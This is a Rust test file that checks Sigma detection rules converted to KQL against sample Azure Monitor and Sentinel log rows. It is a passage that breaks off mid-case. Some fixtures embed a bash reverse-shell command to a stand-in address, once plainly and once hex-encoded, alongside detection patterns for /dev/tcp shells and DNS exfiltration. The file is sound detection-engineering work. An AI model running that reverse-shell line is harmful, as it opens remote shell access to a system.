//! The cloud, Linux, web and CEF tables of azure_monitor (and of
//! sentinel_asim's fallback to them, and its Zeek DNS rows in imDns), end to end: a rule converted, then run with our
//! evaluator over rows shaped as each table holds them (JSON documents that
//! the table keeps as text are text, dynamic columns are objects, booleans
//! and result codes as the table types them); one row the rule must find and
//! one it must not. Where kql-run is next to the checkout, it runs the same
//! cases and must give our evaluator's answer.

mod common;

use std::collections::BTreeMap;

use serde_json::{json, Value};
use sigmaplay_core::kql::convert;
use sigmaplay_core::{kusto, parse_rule, Placeholders};

use common::{compare_with_kql_run, kql_run, shared};

/// kql-run's cases for one target, and our evaluator's answer per case id.
type Oracle = (Vec<String>, BTreeMap<String, Vec<usize>>);

struct Case {
    name: &'static str,
    rule: &'static str,
    table: &'static str,
    /// Rows the query must return.
    hits: Vec<Value>,
    /// Rows it must not.
    misses: Vec<Value>,
}

fn cases() -> Vec<Case> {
    vec![
        Case {
            name: "cloudtrail",
            rule: "title: t\nlogsource: {product: aws, service: cloudtrail}\ndetection:\n  sel:\n    eventSource: iam.amazonaws.com\n    eventName: CreateAccessKey\n    userIdentity.type: Root\n    requestParameters.userName|startswith: admin\n  condition: sel\n",
            table: "AWSCloudTrail",
            // RequestParameters is a string column: the connector writes the object as JSON text.
            hits: vec![json!({"EventSource": "iam.amazonaws.com", "EventName": "CreateAccessKey", "UserIdentityType": "Root",
                "RequestParameters": "{\"userName\":\"admin-backup\"}", "ReadOnly": false})],
            misses: vec![
                json!({"EventSource": "iam.amazonaws.com", "EventName": "CreateAccessKey", "UserIdentityType": "Root",
                    "RequestParameters": "{\"userName\":\"bob\"}"}),
                json!({"EventSource": "iam.amazonaws.com", "EventName": "CreateAccessKey", "UserIdentityType": "IAMUser",
                    "RequestParameters": "{\"userName\":\"admin\"}"}),
            ],
        },
        Case {
            name: "cloudtrail-console-login",
            rule: "title: t\nlogsource: {product: aws, service: cloudtrail}\ndetection:\n  sel:\n    eventName: ConsoleLogin\n    additionalEventData.MFAUsed: 'No'\n    responseElements.ConsoleLogin: Success\n  condition: sel\n",
            table: "AWSCloudTrail",
            hits: vec![json!({"EventName": "ConsoleLogin", "AdditionalEventData": "{\"MFAUsed\":\"No\",\"LoginTo\":\"https://console.aws.amazon.com\"}",
                "ResponseElements": "{\"ConsoleLogin\":\"Success\"}"})],
            misses: vec![json!({"EventName": "ConsoleLogin", "AdditionalEventData": "{\"MFAUsed\":\"Yes\"}",
                "ResponseElements": "{\"ConsoleLogin\":\"Success\"}"})],
        },
        Case {
            name: "auditlogs",
            rule: "title: t\nlogsource: {product: azure, service: auditlogs}\ndetection:\n  sel:\n    Category: RoleManagement\n    properties.message: Add member to role\n    Status: success\n  condition: sel\n",
            table: "AuditLogs",
            hits: vec![json!({"Category": "RoleManagement", "OperationName": "Add member to role", "Result": "success",
                "TargetResources": [{"type": "User", "modifiedProperties": []}], "InitiatedBy": {"user": {"userPrincipalName": "a@b.c"}}})],
            misses: vec![json!({"Category": "RoleManagement", "OperationName": "Add member to role", "Result": "failure"})],
        },
        Case {
            name: "activitylogs",
            rule: "title: t\nlogsource: {product: azure, service: activitylogs}\ndetection:\n  sel:\n    operationName|startswith: MICROSOFT.NETWORK/DNSZONES\n    operationName|endswith: /DELETE\n  condition: sel\n",
            table: "AzureActivity",
            hits: vec![json!({"OperationNameValue": "Microsoft.Network/dnszones/A/delete", "CategoryValue": "Administrative"})],
            misses: vec![json!({"OperationNameValue": "Microsoft.Network/dnszones/A/write", "CategoryValue": "Administrative"})],
        },
        Case {
            name: "signinlogs",
            rule: "title: t\nlogsource: {product: azure, service: signinlogs}\ndetection:\n  sel:\n    ResultType: 50053\n    DeviceDetail.isCompliant: 'false'\n  condition: sel\n",
            table: "SigninLogs",
            // ResultType is a string column; DeviceDetail a dynamic object with a boolean.
            hits: vec![json!({"ResultType": "50053", "DeviceDetail": {"isCompliant": false, "trustType": ""}})],
            misses: vec![
                json!({"ResultType": "0", "DeviceDetail": {"isCompliant": false}}),
                json!({"ResultType": "50053", "DeviceDetail": {"isCompliant": true}}),
            ],
        },
        Case {
            name: "signinlogs-status",
            rule: "title: t\nlogsource: {product: azure, service: signinlogs}\ndetection:\n  sel:\n    Status: Success\n    AuthenticationRequirement: singleFactorAuthentication\n  condition: sel\n",
            table: "SigninLogs",
            hits: vec![json!({"ResultType": "0", "AuthenticationRequirement": "singleFactorAuthentication", "Status": {"errorCode": 0}})],
            misses: vec![json!({"ResultType": "50126", "AuthenticationRequirement": "singleFactorAuthentication", "Status": {"errorCode": 50126}})],
        },
        Case {
            name: "signinlogs-failure",
            rule: "title: t\nlogsource: {product: azure, service: signinlogs}\ndetection:\n  sel:\n    Status: Failure\n  condition: sel\n",
            table: "SigninLogs",
            // Any code but 0 is a failure.
            hits: vec![json!({"ResultType": "50126"}), json!({"ResultType": "53003"})],
            misses: vec![json!({"ResultType": "0"})],
        },
        Case {
            name: "signinlogs-mfa-denied",
            rule: "title: t\nlogsource: {product: azure, service: signinlogs}\ndetection:\n  sel:\n    AuthenticationRequirement: multiFactorAuthentication\n    Status|contains: MFA Denied\n  condition: sel\n",
            table: "SigninLogs",
            // Status is a dynamic object: error code, failure reason, details.
            hits: vec![json!({"AuthenticationRequirement": "multiFactorAuthentication", "ResultType": "500121",
                "Status": {"errorCode": 500121, "failureReason": "Authentication failed during strong authentication request.", "additionalDetails": "MFA denied; user declined the authentication"}})],
            misses: vec![json!({"AuthenticationRequirement": "multiFactorAuthentication", "ResultType": "0", "Status": {"errorCode": 0, "additionalDetails": "MFA requirement satisfied by claim in the token"}})],
        },
        Case {
            name: "riskdetection",
            rule: "title: t\nlogsource: {product: azure, service: riskdetection}\ndetection:\n  sel:\n    riskEventType: anomalousToken\n  condition: sel\n",
            table: "AADUserRiskEvents",
            hits: vec![json!({"RiskEventType": "anomalousToken", "RiskLevel": "high"})],
            misses: vec![json!({"RiskEventType": "unfamiliarFeatures", "RiskLevel": "high"})],
        },
        Case {
            name: "okta",
            rule: "title: t\nlogsource: {product: okta, service: okta}\ndetection:\n  sel:\n    debugContext.debugData.requestUri|contains: admin\n    securityContext.isProxy: 'true'\n  condition: sel\n",
            table: "OktaV2_CL",
            // DebugData is dynamic (debugContext.debugData); SecurityContextIsProxy a bool.
            hits: vec![json!({"EventOriginalType": "user.session.start", "DebugData": {"requestUri": "/api/v1/admin/x"}, "SecurityContextIsProxy": true})],
            misses: vec![json!({"EventOriginalType": "user.session.start", "DebugData": {"requestUri": "/api/v1/admin/x"}, "SecurityContextIsProxy": false})],
        },
        Case {
            name: "gcp",
            rule: "title: t\nlogsource: {product: gcp, service: gcp.audit}\ndetection:\n  sel:\n    gcp.audit.method_name: v1.compute.firewalls.delete\n  condition: sel\n",
            table: "GCPAuditLogs",
            hits: vec![json!({"MethodName": "v1.compute.firewalls.delete", "ServiceName": "compute.googleapis.com"})],
            misses: vec![json!({"MethodName": "v1.compute.firewalls.insert", "ServiceName": "compute.googleapis.com"})],
        },
        Case {
            name: "google-workspace",
            rule: "title: t\nlogsource: {product: gcp, service: google_workspace.admin}\ndetection:\n  sel:\n    eventService: admin.googleapis.com\n    eventName: REMOVE_PRIVILEGE\n  condition: sel\n",
            table: "GoogleWorkspaceReports",
            hits: vec![json!({"IdApplicationName": "admin", "EventName": "REMOVE_PRIVILEGE"})],
            misses: vec![json!({"IdApplicationName": "login", "EventName": "REMOVE_PRIVILEGE"})],
        },
        Case {
            name: "github",
            rule: "title: t\nlogsource: {product: github, service: audit}\ndetection:\n  sel:\n    action: repo.destroy\n  condition: sel\n",
            table: "GitHubAuditLogPolling_CL",
            hits: vec![json!({"action_s": "repo.destroy", "actor_s": "octocat"})],
            misses: vec![json!({"action_s": "repo.create", "actor_s": "octocat"})],
        },
        Case {
            name: "m365",
            rule: "title: t\nlogsource: {product: m365, service: audit}\ndetection:\n  sel:\n    Operation: New-InboxRule\n  condition: sel\n",
            table: "OfficeActivity",
            hits: vec![json!({"Operation": "New-InboxRule", "OfficeWorkload": "Exchange"})],
            misses: vec![json!({"Operation": "Set-Mailbox", "OfficeWorkload": "Exchange"})],
        },
        Case {
            name: "m365-alert",
            rule: include_str!(concat!(
                env!("CARGO_MANIFEST_DIR"),
                "/../../shared/corpus/sigmahq/rules/cloud/m365/threat_management/microsoft365_activity_from_infrequent_country.yml"
            )),
            table: "SecurityAlert",
            // A Defender for Cloud Apps alert as its Sentinel connector writes it
            // (ProductName and ProviderName of the connector's own queries);
            // Entities is JSON text. Another detection's alert is not a hit.
            hits: vec![json!({"AlertName": "Activity from infrequent country", "DisplayName": "Activity from infrequent country",
                "AlertSeverity": "Medium", "ProductName": "Microsoft Cloud App Security", "ProviderName": "MCAS",
                "VendorName": "Microsoft", "Status": "New", "SystemAlertId": "0d3f6c52-9d45-4f0e-8c2a-5b7e1c4a9f10",
                "Entities": "[{\"$id\":\"2\",\"Name\":\"alice\",\"UPNSuffix\":\"contoso.com\",\"Type\":\"account\"}]"})],
            misses: vec![json!({"AlertName": "Impossible travel activity", "DisplayName": "Impossible travel activity",
                "AlertSeverity": "Medium", "ProductName": "Microsoft Cloud App Security", "ProviderName": "MCAS",
                "VendorName": "Microsoft", "Status": "New", "SystemAlertId": "7b1e2f3a-4c5d-4e6f-8a9b-0c1d2e3f4a5b"})],
        },
        Case {
            name: "kube-audit",
            rule: "title: t\nlogsource: {product: kubernetes, category: application, service: audit}\ndetection:\n  sel:\n    verb: create\n    objectRef.resource: pods\n    objectRef.subresource: exec\n  condition: sel\n",
            table: "AzureDiagnostics",
            // log_s is the audit event as JSON text.
            hits: vec![json!({"Category": "kube-audit", "log_s": "{\"verb\":\"create\",\"objectRef\":{\"resource\":\"pods\",\"subresource\":\"exec\"}}"})],
            misses: vec![
                json!({"Category": "kube-audit", "log_s": "{\"verb\":\"get\",\"objectRef\":{\"resource\":\"pods\",\"subresource\":\"exec\"}}"}),
                json!({"Category": "kube-apiserver", "log_s": "{\"verb\":\"create\",\"objectRef\":{\"resource\":\"pods\",\"subresource\":\"exec\"}}"}),
            ],
        },
        Case {
            name: "proxy",
            rule: "title: t\nlogsource: {category: proxy}\ndetection:\n  sel:\n    c-useragent|startswith: Microsoft-WebDAV-MiniRedir/\n    cs-method: GET\n  condition: sel\n",
            table: "CommonSecurityLog",
            hits: vec![json!({"RequestClientApplication": "Microsoft-WebDAV-MiniRedir/10.0.19045", "RequestMethod": "GET", "DestinationPort": 443})],
            misses: vec![json!({"RequestClientApplication": "Mozilla/5.0", "RequestMethod": "GET", "DestinationPort": 443})],
        },
        Case {
            name: "webserver",
            rule: "title: t\nlogsource: {category: webserver}\ndetection:\n  sel:\n    cs-method: POST\n    cs-uri-query|contains: /mgmt/tm/util/bash\n    sc-status: 200\n  condition: sel\n",
            table: "W3CIISLog",
            // scStatus is a string column.
            hits: vec![json!({"csMethod": "POST", "csUriQuery": "x=/mgmt/tm/util/bash", "scStatus": "200", "sPort": 443})],
            misses: vec![json!({"csMethod": "POST", "csUriQuery": "x=/mgmt/tm/util/bash", "scStatus": "404", "sPort": 443})],
        },
        Case {
            name: "sysmon-linux",
            rule: "title: t\nlogsource: {product: linux, category: process_creation}\ndetection:\n  sel:\n    Image|endswith: /bash\n    CommandLine|contains: '/dev/tcp/'\n  filter:\n    ParentImage: /usr/sbin/cron\n  condition: sel and not filter\n",
            table: "Syslog",
            // Sysmon for Linux's event 1 as it reaches Syslog: the XML in SyslogMessage, `&` escaped.
            hits: vec![json!({"ProcessName": "sysmon", "Facility": "user", "SyslogMessage": "<Event><System><Provider Name=\"Linux-Sysmon\" Guid=\"{ff032593-a8d3-4f13-b0d6-01fc615a0f97}\"/><EventID>1</EventID><Version>5</Version></System><EventData><Data Name=\"RuleName\">-</Data><Data Name=\"ProcessId\">4242</Data><Data Name=\"Image\">/usr/bin/bash</Data><Data Name=\"CommandLine\">bash -i &gt;&amp; /dev/tcp/10.0.0.1/4444 0&gt;&amp;1</Data><Data Name=\"ParentImage\">/usr/bin/python3</Data></EventData></Event>"})],
            misses: vec![
                json!({"ProcessName": "sysmon", "SyslogMessage": "<Event><System><Provider Name=\"Linux-Sysmon\"/><EventID>1</EventID></System><EventData><Data Name=\"Image\">/usr/bin/bash</Data><Data Name=\"CommandLine\">bash -c /dev/tcp/x</Data><Data Name=\"ParentImage\">/usr/sbin/cron</Data></EventData></Event>"}),
                // The same values in another event (5, process terminated) are not a process creation.
                json!({"ProcessName": "sysmon", "SyslogMessage": "<Event><System><Provider Name=\"Linux-Sysmon\"/><EventID>5</EventID></System><EventData><Data Name=\"Image\">/usr/bin/bash</Data><Data Name=\"CommandLine\">bash /dev/tcp/x</Data></EventData></Event>"}),
                json!({"ProcessName": "sshd", "SyslogMessage": "Image /usr/bin/bash /dev/tcp/"}),
            ],
        },
        Case {
            name: "powershell-classic",
            rule: "title: t\nlogsource: {product: windows, category: ps_classic_start}\ndetection:\n  sel:\n    Data|contains: HostName=ConsoleHost\n  sel_redirect:\n    Data|contains: '-c Get-Process > '\n  filter:\n    Data|contains: HostApplication=powershell\n  condition: all of sel* and not filter\n",
            table: "Event",
            // Event 400 as the Azure Monitor agent writes it: three unnamed values in
            // the DataItem's XML, the third the details text, with `>` escaped.
            hits: vec![json!({"EventLog": "Windows PowerShell", "Source": "PowerShell", "EventID": 400, "Computer": "ws1",
                "EventData": "<DataItem type=\"System.XmlData\" time=\"2024-05-01T10:00:00.0000000Z\" sourceHealthServiceId=\"3f0e4b8c-0000-0000-0000-000000000000\"><EventData xmlns=\"http://schemas.microsoft.com/win/2004/08/events/event\"><Data>Available</Data><Data>None</Data><Data>\tNewEngineState=Available\n\tPreviousEngineState=None\n\n\tSequenceNumber=13\n\n\tHostName=ConsoleHost\n\tHostVersion=5.1.19041.1\n\tHostApplication=C:\\Users\\a\\ps.exe -c Get-Process &gt; out.txt\n\tEngineVersion=5.1.19041.1</Data></EventData></DataItem>"})],
            misses: vec![
                json!({"EventLog": "Windows PowerShell", "Source": "PowerShell", "EventID": 400,
                    "EventData": "<DataItem type=\"System.XmlData\" time=\"\" sourceHealthServiceId=\"\"><EventData xmlns=\"http://schemas.microsoft.com/win/2004/08/events/event\"><Data>Available</Data><Data>None</Data><Data>\tHostName=ConsoleHost\n\tHostApplication=powershell -c Get-Process &gt; out.txt</Data></EventData></DataItem>"}),
                // The same text in another event (600, provider start).
                json!({"EventLog": "Windows PowerShell", "Source": "PowerShell", "EventID": 600,
                    "EventData": "<DataItem type=\"System.XmlData\" time=\"\" sourceHealthServiceId=\"\"><EventData xmlns=\"http://schemas.microsoft.com/win/2004/08/events/event\"><Data>Registry</Data><Data>Started</Data><Data>\tHostName=ConsoleHost\n\tHostApplication=C:\\x\\ps.exe -c Get-Process &gt; out.txt</Data></EventData></DataItem>"}),
            ],
        },
        Case {
            name: "dns-server",
            rule: "title: t\nlogsource: {category: dns}\ndetection:\n  sel:\n    query|endswith: '.dnslog.cn'\n    record_type: TXT\n  condition: sel\n",
            table: "DnsEvents",
            // QueryType holds the type's number as text (ASimDnsMicrosoftOMS looks it up) or its name.
            hits: vec![
                json!({"SubType": "LookupQuery", "Name": "x1.abc.dnslog.cn", "QueryType": "16", "ClientIP": "10.0.0.5", "EventId": 256, "ResultCode": 0}),
                json!({"SubType": "LookupQuery", "Name": "y.dnslog.cn", "QueryType": "TXT", "ClientIP": "10.0.0.6", "EventId": 256}),
            ],
            misses: vec![
                json!({"SubType": "LookupQuery", "Name": "x1.abc.dnslog.cn", "QueryType": "1", "ClientIP": "10.0.0.5", "EventId": 256}),
                json!({"SubType": "LookupQuery", "Name": "dnslog.cn.example.com", "QueryType": "16", "EventId": 256}),
                json!({"SubType": "AuditEvent", "Name": "x1.abc.dnslog.cn", "QueryType": "16", "EventId": 515}),
            ],
        },
        Case {
            name: "macos-process",
            rule: "title: t\nlogsource: {product: macos, category: process_creation}\ndetection:\n  sel:\n    Image|endswith: /osascript\n    CommandLine|contains: ' -e '\n  condition: sel\n",
            table: "DeviceProcessEvents",
            // Defender for Endpoint's macOS rows, streamed to the workspace by the Defender XDR connector.
            hits: vec![json!({"ActionType": "ProcessCreated", "FolderPath": "/usr/bin/osascript", "FileName": "osascript",
                "ProcessCommandLine": "osascript -e 'display dialog'", "DeviceName": "mac-01", "InitiatingProcessFolderPath": "/bin/zsh"})],
            misses: vec![json!({"ActionType": "ProcessCreated", "FolderPath": "/usr/bin/osascript", "FileName": "osascript",
                "ProcessCommandLine": "osascript script.scpt", "DeviceName": "mac-01"})],
        },
        Case {
            name: "security-eventdata-kerberos",
            rule: "title: t\nlogsource: {product: windows, service: security}\ndetection:\n  sel:\n    EventID: 4768\n    TicketEncryptionType: '0x17'\n    PreAuthType: 0\n  condition: sel\n",
            table: "SecurityEvent",
            // Event 4768 as SecurityEvent keeps it: the values that have no column
            // only in EventData, the event's <EventData> XML (Microsoft's
            // ScheduleTaskHide.yaml reads it with parse_xml(EventData).EventData.Data).
            hits: vec![json!({"EventID": 4768, "Channel": "Security", "Computer": "dc1.corp.example", "TargetUserName": "svc_sql", "ServiceName": "krbtgt",
                "EventData": "<EventData xmlns=\"http://schemas.microsoft.com/win/2004/08/events/event\">\r\n  <Data Name=\"TargetUserName\">svc_sql</Data>\r\n  <Data Name=\"TargetDomainName\">CORP</Data>\r\n  <Data Name=\"ServiceName\">krbtgt</Data>\r\n  <Data Name=\"TicketOptions\">0x40810010</Data>\r\n  <Data Name=\"Status\">0x0</Data>\r\n  <Data Name=\"TicketEncryptionType\">0x17</Data>\r\n  <Data Name=\"PreAuthType\">0</Data>\r\n  <Data Name=\"IpAddress\">::ffff:10.0.0.7</Data>\r\n  <Data Name=\"CertThumbprint\"></Data>\r\n</EventData>"})],
            misses: vec![
                json!({"EventID": 4768, "Channel": "Security", "TargetUserName": "alice",
                    "EventData": "<EventData xmlns=\"http://schemas.microsoft.com/win/2004/08/events/event\"><Data Name=\"TargetUserName\">alice</Data><Data Name=\"TicketEncryptionType\">0x12</Data><Data Name=\"PreAuthType\">2</Data></EventData>"}),
                // 0x17 in another value of the event is not the encryption type.
                json!({"EventID": 4768, "Channel": "Security", "TargetUserName": "bob",
                    "EventData": "<EventData xmlns=\"http://schemas.microsoft.com/win/2004/08/events/event\"><Data Name=\"TicketOptions\">0x17</Data><Data Name=\"TicketEncryptionType\">0x12</Data><Data Name=\"PreAuthType\">0</Data></EventData>"}),
            ],
        },
        Case {
            name: "security-eventdata-task",
            rule: "title: t\nlogsource: {product: windows, service: security}\ndetection:\n  sel:\n    EventID: 4698\n    TaskContent|contains: 'cmd.exe</Command>'\n  filter:\n    TaskName|startswith: '\\Microsoft\\'\n  condition: sel and not filter\n",
            table: "SecurityEvent",
            // TaskContent is the task's XML, itself escaped inside the event's XML text.
            hits: vec![json!({"EventID": 4698, "Channel": "Security",
                "EventData": "<EventData xmlns=\"http://schemas.microsoft.com/win/2004/08/events/event\"><Data Name=\"SubjectUserName\">alice</Data><Data Name=\"TaskName\">\\Updater</Data><Data Name=\"TaskContent\">&lt;?xml version=\"1.0\" encoding=\"UTF-16\"?&gt;&lt;Task&gt;&lt;Actions&gt;&lt;Exec&gt;&lt;Command&gt;C:\\Windows\\System32\\cmd.exe&lt;/Command&gt;&lt;Arguments&gt;/c whoami&lt;/Arguments&gt;&lt;/Exec&gt;&lt;/Actions&gt;&lt;/Task&gt;</Data></EventData>"})],
            misses: vec![
                json!({"EventID": 4698, "Channel": "Security",
                    "EventData": "<EventData xmlns=\"http://schemas.microsoft.com/win/2004/08/events/event\"><Data Name=\"TaskName\">\\Microsoft\\Windows\\Defrag</Data><Data Name=\"TaskContent\">&lt;Task&gt;&lt;Command&gt;cmd.exe&lt;/Command&gt;&lt;/Task&gt;</Data></EventData>"}),
                json!({"EventID": 4698, "Channel": "Security",
                    "EventData": "<EventData xmlns=\"http://schemas.microsoft.com/win/2004/08/events/event\"><Data Name=\"TaskName\">\\Updater</Data><Data Name=\"TaskContent\">&lt;Task&gt;&lt;Command&gt;notepad.exe&lt;/Command&gt;&lt;/Task&gt;</Data></EventData>"}),
            ],
        },
        Case {
            name: "security-eventdata-wfp",
            rule: "title: t\nlogsource: {product: windows, service: security}\ndetection:\n  sel:\n    EventID: 5156\n    DestPort: 88\n  filter:\n    Application|endswith: '\\lsass.exe'\n  condition: sel and not filter\n",
            table: "SecurityEvent",
            // The Filtering Platform's values: a device path, ports as text.
            hits: vec![json!({"EventID": 5156, "Channel": "Security",
                "EventData": "<EventData xmlns=\"http://schemas.microsoft.com/win/2004/08/events/event\"><Data Name=\"ProcessID\">4556</Data><Data Name=\"Application\">\\device\\harddiskvolume2\\users\\a\\rubeus.exe</Data><Data Name=\"Direction\">%%14593</Data><Data Name=\"SourceAddress\">10.0.0.10</Data><Data Name=\"SourcePort\">51000</Data><Data Name=\"DestAddress\">10.0.0.1</Data><Data Name=\"DestPort\">88</Data><Data Name=\"Protocol\">6</Data><Data Name=\"LayerRTID\">48</Data></EventData>"})],
            misses: vec![
                json!({"EventID": 5156, "Channel": "Security",
                    "EventData": "<EventData xmlns=\"http://schemas.microsoft.com/win/2004/08/events/event\"><Data Name=\"Application\">\\device\\harddiskvolume2\\windows\\system32\\lsass.exe</Data><Data Name=\"DestPort\">88</Data></EventData>"}),
                json!({"EventID": 5156, "Channel": "Security",
                    "EventData": "<EventData xmlns=\"http://schemas.microsoft.com/win/2004/08/events/event\"><Data Name=\"Application\">\\device\\harddiskvolume2\\users\\a\\rubeus.exe</Data><Data Name=\"SourcePort\">88</Data><Data Name=\"DestPort\">443</Data></EventData>"}),
            ],
        },
        Case {
            name: "security-logon-type",
            // imAuthentication has no logon type: on sentinel_asim too the rule reads SecurityEvent.
            rule: "title: t\nlogsource: {product: windows, service: security}\ndetection:\n  sel:\n    EventID: 4624\n    LogonType: 10\n    IpAddress:\n      - '::1'\n      - '127.0.0.1'\n  condition: sel\n",
            table: "SecurityEvent",
            // LogonType and EventID are int columns of SecurityEvent, IpAddress a string.
            hits: vec![json!({"EventID": 4624, "Channel": "Security", "Computer": "ws1.corp.example", "Activity": "4624 - An account was successfully logged on.",
                "TargetUserName": "alice", "TargetDomainName": "CORP", "LogonType": 10, "LogonProcessName": "User32", "AuthenticationPackageName": "Negotiate", "IpAddress": "127.0.0.1", "IpPort": "0"})],
            misses: vec![
                json!({"EventID": 4624, "Channel": "Security", "TargetUserName": "alice", "LogonType": 3, "LogonProcessName": "NtLmSsp", "IpAddress": "127.0.0.1"}),
                json!({"EventID": 4624, "Channel": "Security", "TargetUserName": "alice", "LogonType": 10, "IpAddress": "10.0.0.7"}),
                json!({"EventID": 4625, "Channel": "Security", "TargetUserName": "alice", "LogonType": 10, "IpAddress": "::1"}),
            ],
        },
        Case {
            name: "auditd-execve",
            rule: "title: t\nlogsource: {product: linux, service: auditd}\ndetection:\n  sel:\n    type: EXECVE\n    a0|endswith: bash\n    a1: '-c'\n    a2|contains: '/dev/tcp/'\n  condition: sel\n",
            table: "Syslog",
            // auditd's EXECVE record as the audisp syslog plugin passes it to syslog:
            // an argument holding a space is upper-case hex, the others quoted.
            hits: vec![
                json!({"ProcessName": "audisp-syslog", "Facility": "user", "SeverityLevel": "info", "Computer": "web1",
                    "SyslogMessage": "type=EXECVE msg=audit(1700000000.123:4242): argc=3 a0=\"/bin/bash\" a1=\"-c\" a2=62617368202D69203E26202F6465762F7463702F31302E302E302E312F3434343420303E2631"}),
                json!({"ProcessName": "audisp-syslog", "Facility": "user", "Computer": "web1",
                    "SyslogMessage": "node=web1 type=EXECVE msg=audit(1700000001.5:4250): argc=3 a0=\"bash\" a1=\"-C\" a2=\"/dev/tcp/10.0.0.1/80\""}),
            ],
            misses: vec![
                json!({"ProcessName": "audisp-syslog", "SyslogMessage": "type=EXECVE msg=audit(1700000000.2:4243): argc=3 a0=\"bash\" a1=\"-c\" a2=6563686F202F6465762F746D702078"}),
                json!({"ProcessName": "audisp-syslog", "SyslogMessage": "type=EXECVE msg=audit(1700000000.3:4244): argc=3 a0=\"bashful\" a1=\"-c\" a2=\"/dev/tcp/x\""}),
                json!({"ProcessName": "audisp-syslog", "SyslogMessage": "type=PROCTITLE msg=audit(1700000000.4:4245): a0=\"bash\" a1=\"-c\" a2=\"/dev/tcp/x\""}),
                json!({"ProcessName": "bash", "SyslogMessage": "type=EXECVE a0=\"bash\" a1=\"-c\" a2=\"/dev/tcp/x\""}),
            ],
        },
        Case {
            name: "auditd-syscall-enriched",
            rule: "title: t\nlogsource: {product: linux, service: auditd}\ndetection:\n  sel:\n    type: SYSCALL\n    SYSCALL: execve\n    exe|endswith: /curl\n  condition: sel\n",
            table: "Syslog",
            // log_format ENRICHED: the interpreted fields follow a 0x1D byte, in upper case.
            hits: vec![json!({"ProcessName": "audisp-syslog", "Facility": "user",
                "SyslogMessage": "type=SYSCALL msg=audit(1700000000.9:51): arch=c000003e syscall=59 success=yes exit=0 a0=55d1 a1=55d2 a2=55d3 a3=0 items=2 ppid=900 pid=901 auid=1000 uid=0 gid=0 euid=0 tty=pts0 ses=3 comm=\"curl\" exe=\"/usr/bin/curl\" key=(null)\u{1d}ARCH=x86_64 SYSCALL=execve AUID=\"alice\" UID=\"root\""})],
            misses: vec![json!({"ProcessName": "audisp-syslog",
                "SyslogMessage": "type=SYSCALL msg=audit(1700000000.9:52): arch=c000003e syscall=2 success=yes exit=3 comm=\"curl\" exe=\"/usr/bin/curl\" key=(null)\u{1d}ARCH=x86_64 SYSCALL=open AUID=\"alice\""})],
        },
        Case {
            name: "auditd-user-record",
            rule: "title: t\nlogsource: {product: linux, service: auditd}\ndetection:\n  sel:\n    type: SERVICE_STOP\n    unit: auditd\n  condition: sel\n",
            table: "Syslog",
            // A user-space record: its fields inside msg='...'.
            hits: vec![json!({"ProcessName": "audisp-syslog",
                "SyslogMessage": "type=SERVICE_STOP msg=audit(1700000002.0:77): pid=1 uid=0 auid=4294967295 ses=4294967295 msg='unit=auditd comm=\"systemd\" exe=\"/usr/lib/systemd/systemd\" hostname=? addr=? terminal=? res=success'"})],
            misses: vec![json!({"ProcessName": "audisp-syslog",
                "SyslogMessage": "type=SERVICE_STOP msg=audit(1700000002.0:78): pid=1 uid=0 msg='unit=auditd-helper comm=\"systemd\" res=success'"})],
        },
        Case {
            name: "rpc-firewall",
            rule: "title: t\nlogsource: {product: rpc_firewall, category: application}\ndetection:\n  sel:\n    EventLog: RPCFW\n    EventID: 3\n    InterfaceUuid: 1FF70682-0A51-30E8-076D-740BE8CEE98B\n    OpNum: [0, 1]\n  condition: sel\n",
            table: "Event",
            // RPC Firewall's event 3 as the Event table keeps a classic event: its
            // unnamed insertion strings in order, InterfaceUuid the 7th, OpNum the 8th.
            hits: vec![json!({"EventLog": "RPCFW", "Source": "RPCFW", "EventID": 3, "Computer": "dc1", "EventData": "<DataItem type=\"System.XmlData\" time=\"2024-05-01T10:00:00.0000000Z\" sourceHealthServiceId=\"3f0e4b8c-0000-0000-0000-000000000000\"><EventData xmlns=\"http://schemas.microsoft.com/win/2004/08/events/event\"><Data>NdrServerCallAll</Data><Data>1234</Data><Data>C:\\Windows\\System32\\svchost.exe</Data><Data>ncacn_np</Data><Data>\\PIPE\\atsvc</Data><Data>10.0.0.9</Data><Data>1ff70682-0a51-30e8-076d-740be8cee98b</Data><Data>1</Data><Data>S-1-5-21-1-2-3-1104</Data><Data>6</Data><Data>10</Data></EventData></DataItem>"})],
            misses: vec![
                json!({"EventLog": "RPCFW", "Source": "RPCFW", "EventID": 3, "EventData": "<DataItem type=\"System.XmlData\" time=\"2024-05-01T10:00:00.0000000Z\" sourceHealthServiceId=\"3f0e4b8c-0000-0000-0000-000000000000\"><EventData xmlns=\"http://schemas.microsoft.com/win/2004/08/events/event\"><Data>NdrServerCallAll</Data><Data>1234</Data><Data>C:\\Windows\\System32\\svchost.exe</Data><Data>ncacn_np</Data><Data>\\PIPE\\atsvc</Data><Data>10.0.0.9</Data><Data>1ff70682-0a51-30e8-076d-740be8cee98b</Data><Data>2</Data><Data>S-1-5-21-1-2-3-1104</Data><Data>6</Data><Data>10</Data></EventData></DataItem>"}),
                json!({"EventLog": "RPCFW", "Source": "RPCFW", "EventID": 3, "EventData": "<DataItem type=\"System.XmlData\" time=\"2024-05-01T10:00:00.0000000Z\" sourceHealthServiceId=\"3f0e4b8c-0000-0000-0000-000000000000\"><EventData xmlns=\"http://schemas.microsoft.com/win/2004/08/events/event\"><Data>NdrServerCallAll</Data><Data>1</Data><Data>C:\\x.exe</Data><Data>ncacn_ip_tcp</Data><Data>49667</Data><Data>10.0.0.9</Data><Data>12345778-1234-abcd-ef00-0123456789ab</Data><Data>9</Data><Data></Data><Data>6</Data><Data>10</Data></EventData></DataItem>"}),
                json!({"EventLog": "Application", "Source": "RPCFW", "EventID": 3, "EventData": "<DataItem type=\"System.XmlData\" time=\"2024-05-01T10:00:00.0000000Z\" sourceHealthServiceId=\"3f0e4b8c-0000-0000-0000-000000000000\"><EventData xmlns=\"http://schemas.microsoft.com/win/2004/08/events/event\"><Data>NdrServerCallAll</Data><Data>1234</Data><Data>C:\\Windows\\System32\\svchost.exe</Data><Data>ncacn_np</Data><Data>\\PIPE\\atsvc</Data><Data>10.0.0.9</Data><Data>1ff70682-0a51-30e8-076d-740be8cee98b</Data><Data>1</Data><Data>S-1-5-21-1-2-3-1104</Data><Data>6</Data><Data>10</Data></EventData></DataItem>"}),
            ],
        },
        Case {
            name: "fortigate-event-cef",
            rule: "title: t\nlogsource: {product: fortigate, service: event}\ndetection:\n  sel:\n    action: Add\n    cfgpath: system.admin\n  condition: sel\n",
            table: "CommonSecurityLog",
            // FortiOS's CEF as the Azure Monitor agent keeps it: the header in
            // DeviceVendor/DeviceProduct/Activity, act in DeviceAction, the
